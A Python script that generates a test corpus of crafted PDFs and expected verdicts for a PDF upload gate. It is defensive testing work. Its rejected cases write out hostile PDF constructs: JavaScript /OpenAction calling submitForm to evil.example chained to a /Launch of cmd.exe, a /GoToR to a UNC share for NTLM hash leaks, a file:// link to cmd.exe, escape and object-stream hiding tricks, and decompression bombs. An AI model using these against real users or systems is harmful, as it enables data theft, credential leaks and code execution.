#!/usr/bin/python3
"""Writes the PDF gate corpus (tests/gate_corpus/pdf/*.pdf) and cases.json.

Each PDF is assembled here byte by byte with correct cross-reference offsets,
so every case isolates one construct. Standard library only; the encrypted
cases need the `qpdf` command, the real-world case needs matplotlib (both
skipped with a note when absent). Run: /usr/bin/python3 make_corpus.py
"""
import json
import os
import shutil
import subprocess
import sys
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))

PAGE_TEXT = b"BT /F1 24 Tf 72 720 Td (Hello from throwbox) Tj ET"


def stream(dict_body, data):
    """An indirect stream body: dictionary (without << >>) plus data with its /Length."""
    return b"<< " + dict_body + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


def base_objects(catalog_extra=b"", page_extra=b"", annots=None):
    """1 catalog, 2 pages, 3 page, 4 contents, 5 font: a one-page text document."""
    annot_refs = b""
    if annots:
        annot_refs = b" /Annots [" + b" ".join(b"%d 0 R" % n for n in annots) + b"]"
    return {
        1: b"<< /Type /Catalog /Pages 2 0 R" + catalog_extra + b" >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
           b" /Resources << /Font << /F1 5 0 R >> >>" + annot_refs + page_extra + b" >>",
        4: stream(b"", PAGE_TEXT),
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    }


def write_pdf(objects, root=1, version=b"1.7"):
    """A classic file: header, objects, xref table, trailer. Returns bytes."""
    out = bytearray(b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n")
    size = max(objects) + 1
    offsets = {}
    for num in sorted(objects):
        offsets[num] = len(out)
        out += b"%d 0 obj\n" % num + objects[num] + b"\nendobj\n"
    xref_at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for num in range(1, size):
        if num in offsets:
            out += b"%010d 00000 n \n" % offsets[num]
        else:
            out += b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, xref_at)
    return bytes(out)


def write_pdf_objstm(objects, in_stream, root=1, compress=True, objstm_filter=None, objstm_data=None):
    """PDF 1.5: the objects numbered in in_stream go into one object stream; an
    (uncompressed) xref stream indexes everything."""
    packed = set(in_stream)
    plain = {n: b for n, b in objects.items() if n not in packed}
    stm_num = max(objects) + 1
    xref_num = stm_num + 1
    header, parts, at = [], [], 0
    for n in in_stream:
        header.append(b"%d %d" % (n, at))
        parts.append(objects[n] + b"\n")
        at += len(parts[-1])
    head = b" ".join(header) + b"\n"
    bodies = b"".join(parts)
    data = head + bodies if objstm_data is None else objstm_data
    filt = b""
    if objstm_filter is not None:
        data, filt = objstm_filter(data)
    elif compress:
        data, filt = zlib.compress(data), b" /Filter /FlateDecode"
    plain[stm_num] = stream(b"/Type /ObjStm /N %d /First %d" % (len(in_stream), len(head)) + filt, data)
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for num in sorted(plain):
        offsets[num] = len(out)
        out += b"%d 0 obj\n" % num + plain[num] + b"\nendobj\n"
    xref_at = len(out)
    size = xref_num + 1
    rows = bytearray()
    index_in_stream = {n: i for i, n in enumerate(in_stream)}
    for num in range(size):
        if num == xref_num:
            rows += bytes([1]) + xref_at.to_bytes(4, "big") + b"\0\0"
        elif num in offsets:
            rows += bytes([1]) + offsets[num].to_bytes(4, "big") + b"\0\0"
        elif num in index_in_stream:
            rows += bytes([2]) + stm_num.to_bytes(4, "big") + (index_in_stream[num] & 0xFFFF).to_bytes(2, "big")
        else:
            rows += bytes([0]) + b"\0\0\0\0" + b"\xff\xff"
    rows = bytes(rows)
    out += b"%d 0 obj\n" % xref_num
    out += stream(b"/Type /XRef /Size %d /W [1 4 2] /Root %d 0 R" % (size, root), rows)
    out += b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def append_update(base, objects, root=1):
    """An incremental update: the new bodies of objects, an xref section for
    them alone, a trailer pointing back with /Prev."""
    prev = int(base.rstrip().split(b"startxref")[-1].split(b"%%EOF")[0].strip())
    size = int(base.split(b"/Size ")[-1].split()[0])
    out = bytearray(base)
    offsets = {}
    for num in sorted(objects):
        offsets[num] = len(out)
        out += b"%d 0 obj\n" % num + objects[num] + b"\nendobj\n"
    xref_at = len(out)
    out += b"xref\n"
    for num in sorted(objects):
        out += b"%d 1\n%010d 00000 n \n" % (num, offsets[num])
    size = max(size, max(objects) + 1)
    out += b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, prev, xref_at)
    return bytes(out)


def link_annot(action):
    return b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 730] /Border [0 0 0] /A " + action + b" >>"


def with_annot(annot_body, catalog_extra=b""):
    objs = base_objects(catalog_extra=catalog_extra, annots=[6])
    objs[6] = annot_body
    return objs


def xref_stream_bomb():
    """A cross-reference stream that inflates to 64 MiB: qpdf would expand it
    while opening the file."""
    objs = base_objects()
    out = bytearray(b"%PDF-1.7\n")
    offsets = {}
    for num in sorted(objs):
        offsets[num] = len(out)
        out += b"%d 0 obj\n" % num + objs[num] + b"\nendobj\n"
    xref_at = len(out)
    rows = b""
    for num in range(6):
        rows += (bytes([1]) + offsets[num].to_bytes(4, "big") + b"\0\0") if num in offsets else b"\0\0\0\0\0\xff\xff"
    rows += bytes([1]) + xref_at.to_bytes(4, "big") + b"\0\0"
    comp = zlib.compressobj(9)
    data = comp.compress(rows)
    chunk = b"\0" * (1 << 20)
    for _ in range(64):
        data += comp.compress(chunk)
    data += comp.flush()
    out += b"6 0 obj\n" + stream(b"/Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode", data)
    out += b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def objstm_bomb_filter(data):
    comp = zlib.compressobj(9)
    out = comp.compress(data)
    chunk = b" " * (1 << 20)
    for _ in range(300):
        out += comp.compress(chunk)
    return out + comp.flush(), b" /Filter /FlateDecode"


def deep_nesting():
    objs = base_objects()
    objs[6] = b"[" * 5000 + b"]" * 5000
    return write_pdf(objs)


CASES = []


def case(file, data, expect, reason, reader, source, mode="reject"):
    if data is not None:
        with open(os.path.join(HERE, file), "wb") as f:
            f.write(data)
    CASES.append({"file": file, "expect": expect, "mode": mode, "reason_contains": reason, "reader": reader,
                  "source": source})


JS_ALERT = b"<< /Type /Action /S /JavaScript /JS (app.alert\\('hi'\\);) >>"
ACROBAT = "Adobe Acrobat Reader"
ALL = "Adobe Acrobat Reader, Foxit, pdf.js in Firefox (scripting), Chrome's PDFium"


def main():
    # --- accepted --------------------------------------------------------------
    plain = write_pdf(base_objects())
    case("plain.pdf", plain, "accepted", "", "every reader", "ISO 32000-1 7.5: the minimal one-page text document")
    case("openaction_dest.pdf", write_pdf(base_objects(catalog_extra=b" /OpenAction [3 0 R /Fit]")), "accepted", "",
         "every reader", "ISO 32000-1 12.3.2: /OpenAction as a destination array (open at page 1, fit)")
    objs = base_objects(catalog_extra=b" /OpenAction 6 0 R")
    objs[6] = b"<< /Type /Action /S /GoTo /D [3 0 R /XYZ 0 792 0] >>"
    case("openaction_goto.pdf", write_pdf(objs), "accepted", "", "every reader",
         "ISO 32000-1 12.6.4.2: /OpenAction as a /GoTo action inside the document")
    case("uri_link.pdf", write_pdf(with_annot(link_annot(b"<< /S /URI /URI (https://example.org/report) >>"))),
         "accepted", "", "every reader (the browser opens the link after a click)",
         "ISO 32000-1 12.6.4.7: a plain https link annotation")
    case("named_nextpage.pdf", write_pdf(with_annot(link_annot(b"<< /S /Named /N /NextPage >>"))), "accepted", "",
         "every reader", "ISO 32000-1 12.6.4.11: a standard named action")

    # --- the reported bypass ---------------------------------------------------
    objs = base_objects(catalog_extra=b" /OpenAction 6 0 R")
    objs[6] = (b"<< /Type /Action /S /JavaScript /JS (this.submitForm\\({cURL: 'https://evil.example/collect', "
               b"cSubmitAs: 'PDF'}\\);) /Next 7 0 R >>")
    objs[7] = b"<< /Type /Action /S /Launch /Win << /F (cmd.exe) /P (/c calc.exe) >> /F (cmd.exe) >>"
    case("issue17_openaction_js_submit_launch.pdf", write_pdf(objs), "rejected",
         "JavaScript action (/S /JavaScript) in object 6 0 (the catalog's /OpenAction)", ALL,
         "a reported bypass: /OpenAction JavaScript calling submitForm, then /Launch cmd.exe (accepted by the type-only gate)")

    # --- one construct per file ------------------------------------------------
    objs = base_objects(catalog_extra=b" /OpenAction 6 0 R")
    objs[6] = JS_ALERT
    case("js_openaction.pdf", write_pdf(objs), "rejected", "JavaScript action (/S /JavaScript) in object 6 0", ALL,
         "ISO 32000-1 12.6.4.16: JavaScript action run on open")
    objs = base_objects(catalog_extra=b" /Names << /JavaScript 6 0 R >>")
    objs[6] = b"<< /Names [(init) 7 0 R] >>"
    objs[7] = JS_ALERT
    case("js_names_tree.pdf", write_pdf(objs), "rejected", "document JavaScript (the /Names tree's /JavaScript)", ALL,
         "ISO 32000-1 7.7.4: document-level JavaScript name tree")
    case("js_key_without_s.pdf", write_pdf(with_annot(link_annot(b"<< /JS (app.alert\\(1\\)) >>"))), "rejected",
         "JavaScript (/JS)", ACROBAT, "a /JS key in an action dictionary lacking /S")
    case("launch.pdf", write_pdf(with_annot(link_annot(b"<< /S /Launch /F (cmd.exe) >>"))), "rejected",
         "Launch action", "Adobe Acrobat Reader, Foxit, Evince (opens the file)",
         "ISO 32000-1 12.6.4.5; CVE-2010-1240 (Didier Stevens' /Launch cmd.exe)")
    case("submitform.pdf", write_pdf(with_annot(link_annot(
        b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> /Flags 4 >>"))), "rejected",
        "SubmitForm action", "Adobe Acrobat Reader, Foxit", "ISO 32000-1 12.7.5.2: form data sent to a server")
    case("importdata.pdf", write_pdf(with_annot(link_annot(b"<< /S /ImportData /F (C:\\\\secrets.fdf) >>"))),
         "rejected", "ImportData action", ACROBAT, "ISO 32000-1 12.7.5.4: reads another file into the form")
    case("gotor.pdf", write_pdf(with_annot(link_annot(b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>"))),
         "rejected", "GoToR action", "Adobe Acrobat Reader, Foxit (a UNC path sends NTLM credentials)",
         "ISO 32000-1 12.6.4.3; CVE-2018-4993 (NTLM hash leak via /GoToR)")
    case("gotoe.pdf", write_pdf(with_annot(link_annot(b"<< /S /GoToE /T << /R /C /N (a.pdf) >> >>"))), "rejected",
         "GoToE action", ACROBAT, "ISO 32000-1 12.6.4.4: opens an embedded document")
    case("openaction_uri.pdf", write_pdf(base_objects(catalog_extra=b" /OpenAction << /S /URI /URI (https://tracker.example/open) >>")),
         "rejected", "/OpenAction that is a /URI action, not navigation", ALL,
         "an /OpenAction that calls home when the document is opened")
    objs = base_objects(page_extra=b" /AA << /O 6 0 R >>")
    objs[6] = JS_ALERT
    case("aa_page_js.pdf", write_pdf(objs), "rejected", "JavaScript action (/S /JavaScript) in object 6 0 (page 3 0's /AA /O)",
         ALL, "ISO 32000-1 12.6.3: page-open additional action")
    case("aa_annot_named.pdf", write_pdf(with_annot(
        b"<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [72 700 300 730] /AA << /E << /S /Named /N /Print >> >> >>",
        catalog_extra=b" /AcroForm << /Fields [6 0 R] >>")), "rejected", "additional action /AA /E that is a /Named action",
        ACROBAT, "ISO 32000-1 12.6.3: mouse-enter action on a form field (runs a menu item)")
    case("named_print.pdf", write_pdf(with_annot(link_annot(b"<< /S /Named /N /Print >>"))), "rejected",
         "/Named action (/Print) other than page navigation", ACROBAT, "Acrobat runs any menu item named by /N")
    objs = base_objects(catalog_extra=b" /Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>")
    objs[6] = b"<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>"
    objs[7] = stream(b"/Type /EmbeddedFile", b"MZ not really a program")
    case("embedded_files.pdf", write_pdf(objs), "rejected", "embedded files (/EmbeddedFiles name tree)",
         "Adobe Acrobat Reader, Foxit, pdf.js (attachments pane)", "ISO 32000-1 7.11.4: embedded file streams")
    objs = with_annot(b"<< /Type /Annot /Subtype /FileAttachment /Rect [72 700 100 730] /FS 7 0 R >>")
    objs[7] = b"<< /Type /Filespec /F (run.bat) /EF << /F 8 0 R >> >>"
    objs[8] = stream(b"/Type /EmbeddedFile", b"@echo off\r\ncalc.exe\r\n")
    case("file_attachment_annot.pdf", write_pdf(objs), "rejected", "a /FileAttachment annotation",
         "Adobe Acrobat Reader, Foxit, pdf.js", "ISO 32000-1 12.5.6.15: file attachment annotation")
    objs = base_objects()
    objs[6] = b"<< /Type /Filespec /F (x.bin) /EF << /F 7 0 R >> >>"
    objs[7] = stream(b"", b"payload")
    case("ef_filespec.pdf", write_pdf(objs), "rejected", "an embedded file (/EF)", "Adobe Acrobat Reader",
         "ISO 32000-1 7.11.3: a file specification carrying its file")
    objs = base_objects(catalog_extra=b" /AcroForm << /Fields [] /XFA 6 0 R >>")
    objs[6] = stream(b"", b"<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"><template><script>app.alert(1)</script></template></xdp:xdp>")
    case("xfa.pdf", write_pdf(objs), "rejected", "an XFA form (/XFA)", "Adobe Acrobat Reader, pdf.js (XFA forms)",
         "ISO 32000-1 12.7.8: XFA forms carry their own scripts")
    for sub, extra in ((b"RichMedia", b" /RichMediaContent << >>"), (b"Movie", b" /Movie << /F (m.mov) >>"),
                       (b"Sound", b" /Sound 7 0 R"), (b"Screen", b""), (b"3D", b" /3DD 7 0 R")):
        objs = with_annot(b"<< /Type /Annot /Subtype /" + sub + b" /Rect [72 700 300 730]" + extra + b" >>")
        if sub in (b"Sound",):
            objs[7] = stream(b"/Type /Sound /R 8000", b"\0" * 16)
        if sub == b"3D":
            objs[7] = stream(b"/Type /3D /Subtype /U3D", b"U3D\0")
        name = sub.decode().lower()
        case("annot_%s.pdf" % name, write_pdf(objs), "rejected", "a /%s annotation" % sub.decode(),
             "Adobe Acrobat Reader (Flash, media and 3D players)", "ISO 32000-1 12.5.6 / Adobe Supplement: rich media")
    case("rendition.pdf", write_pdf(with_annot(link_annot(b"<< /S /Rendition /OP 0 /AN 6 0 R >>"))), "rejected",
         "Rendition action", ACROBAT, "ISO 32000-1 12.6.4.13: plays media")
    case("uri_file.pdf", write_pdf(with_annot(link_annot(b"<< /S /URI /URI (file:///C:/Windows/System32/cmd.exe) >>"))),
         "rejected", "URI action to a non-web address (file:///C:/Windows", "Adobe Acrobat Reader, Foxit, Evince",
         "a /URI that opens a local program instead of a web page")

    # --- hiding places ---------------------------------------------------------
    objs = base_objects(catalog_extra=b" /OpenAction 6 0 R")
    objs[6] = JS_ALERT
    case("js_in_object_stream.pdf", write_pdf_objstm(objs, [1, 2, 3, 5, 6]), "rejected",
         "JavaScript action (/S /JavaScript) in object 6 0", ALL, "PDF 1.5 object streams: the action is compressed")
    objs = base_objects()
    objs[6] = JS_ALERT
    case("js_unreachable.pdf", write_pdf(objs), "rejected", "JavaScript action (/S /JavaScript) in object 6 0 (referenced by no object)",
         "readers that rebuild the table or follow stale references", "an unreferenced object in the xref table")
    objs = base_objects(catalog_extra=b" /OpenAction 6 0 R")
    objs[6] = b"<< /Type /Action /S /GoTo /D [3 0 R /Fit] /Next 7 0 R >>"
    objs[7] = JS_ALERT
    case("js_behind_next.pdf", write_pdf(objs), "rejected", "JavaScript action (/S /JavaScript) in object 7 0 (object 6 0's /Next)",
         ALL, "ISO 32000-1 12.6.2: an innocent /GoTo chained to script with /Next")
    objs = base_objects(catalog_extra=b" /OpenAction 6 0 R")
    objs[6] = b"<< /Type /Action /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"
    case("js_hex_escaped_name.pdf", write_pdf(objs), "rejected", "JavaScript action (/S /JavaScript)", ALL,
         "ISO 32000-1 7.3.5: #hh escapes in names (/J#61vaScript) defeat byte-pattern scanners")
    objs = base_objects(catalog_extra=b" /OpenAction 6 0 R")
    objs[6] = JS_ALERT
    base = write_pdf(objs)
    case("js_earlier_revision.pdf", append_update(base, {6: b"<< /Type /Action /S /GoTo /D [3 0 R /Fit] >>"}), "rejected",
         "is not the one the cross-reference table lists", "readers that rebuild a damaged table (pdf.js, MuPDF)",
         "an incremental update hiding the script in the previous revision")
    case("deep_nesting.pdf", deep_nesting(), "rejected", "PDF:", "every reader (stack depth)", "5000 nested arrays")

    # --- damaged, encrypted, bombs ---------------------------------------------
    case("truncated.pdf", plain[: len(plain) * 2 // 3], "rejected", "qpdf cannot read it without repairing it",
         "every reader repairs this its own way", "a file cut at two thirds (no xref, no trailer)")
    bad = plain.replace(b"xref\n0 6\n0000000000 65535 f \n0000000015", b"xref\n0 6\n0000000000 65535 f \n0000000019")
    assert bad != plain
    case("bad_xref_offset.pdf", bad, "rejected", "PDF: qpdf", "readers rebuild the table differently",
         "a cross-reference entry pointing four bytes past its object")
    case("xref_stream_bomb.pdf", xref_stream_bomb(), "rejected", "decompression bomb", "the server (qpdf's memory)",
         "64 MiB of xref stream in 64 KiB of deflate")
    objs = base_objects()
    case("object_stream_bomb.pdf", write_pdf_objstm(objs, [5], objstm_filter=objstm_bomb_filter), "rejected",
         "decompression bomb", "the server (qpdf's memory)", "an object stream inflating to 300 MiB")

    qpdf = shutil.which("qpdf")
    if qpdf:
        src = os.path.join(HERE, "plain.pdf")
        for name, user, expect, reason, mode in (
                ("encrypted_user_password.pdf", "secret", "rejected", "encrypted with a user password", "reject"),
                ("encrypted_empty_password.pdf", "", "accepted", "", "reject")):
            subprocess.run([qpdf, "--static-id", "--static-aes-iv", "--encrypt", user, "owner", "256", "--", src,
                            os.path.join(HERE, name)], check=True)
            case(name, None, expect, reason, "every reader (asks for the password)" if user else "every reader",
                 "qpdf --encrypt %r owner 256" % user, mode)
        js = os.path.join(HERE, "js_openaction.pdf")
        subprocess.run([qpdf, "--static-id", "--static-aes-iv", "--encrypt", "", "owner", "256", "--", js,
                        os.path.join(HERE, "js_encrypted_empty_password.pdf")], check=True)
        case("js_encrypted_empty_password.pdf", None, "rejected", "JavaScript action (/S /JavaScript)", ALL,
             "qpdf --encrypt '' owner 256 of js_openaction.pdf: strings and streams encrypted, still opened unasked")
    else:
        print("make_corpus: no qpdf command; encrypted cases not written", file=sys.stderr)

    try:
        import matplotlib
        matplotlib.use("agg")
        matplotlib.rcParams["pdf.compression"] = 6
        import matplotlib.pyplot as plt
        os.environ.setdefault("SOURCE_DATE_EPOCH", "0")  # matplotlib writes a fixed /CreationDate
        fig, ax = plt.subplots(figsize=(4, 3))
        ax.plot([0, 1, 2, 3], [1, 3, 2, 4], label="series")
        ax.set_title("throwbox corpus")
        ax.legend()
        path = os.path.join(HERE, "matplotlib.pdf")
        fig.savefig(path, format="pdf", metadata={"CreationDate": None, "Producer": "matplotlib"})
        case("matplotlib.pdf", None, "accepted", "", "every reader",
             "matplotlib %s PDF backend (a real producer, object streams off)" % matplotlib.__version__)
    except ImportError:
        print("make_corpus: no matplotlib; matplotlib.pdf not written", file=sys.stderr)

    # --- kStrip: what comes out ------------------------------------------------
    for file, reason in (("issue17_openaction_js_submit_launch.pdf", "JavaScript action"),
                         ("js_in_object_stream.pdf", "JavaScript action"),
                         ("embedded_files.pdf", "embedded files"),
                         ("js_earlier_revision.pdf", "is not the one the cross-reference table lists"),
                         ("aa_annot_named.pdf", "additional action /AA /E"),
                         ("js_encrypted_empty_password.pdf", "JavaScript action")):
        if any(c["file"] == file for c in CASES):
            case(file, None, "sanitized", reason, "as above: the stripped rewrite", "kStrip of the case above", "strip")
    for file, reason in (("encrypted_user_password.pdf", "user password"), ("truncated.pdf", "qpdf cannot read"),
                         ("xref_stream_bomb.pdf", "decompression bomb"), ("deep_nesting.pdf", "PDF:")):
        if any(c["file"] == file for c in CASES):
            case(file, None, "rejected", reason, "as above", "kStrip cannot repair it: still rejected", "strip")

    with open(os.path.join(HERE, "cases.json"), "w") as f:
        json.dump(CASES, f, indent=1)
        f.write("\n")
    print("make_corpus: %d cases, %d files" % (len(CASES), len({c["file"] for c in CASES})))


if __name__ == "__main__":
    main()
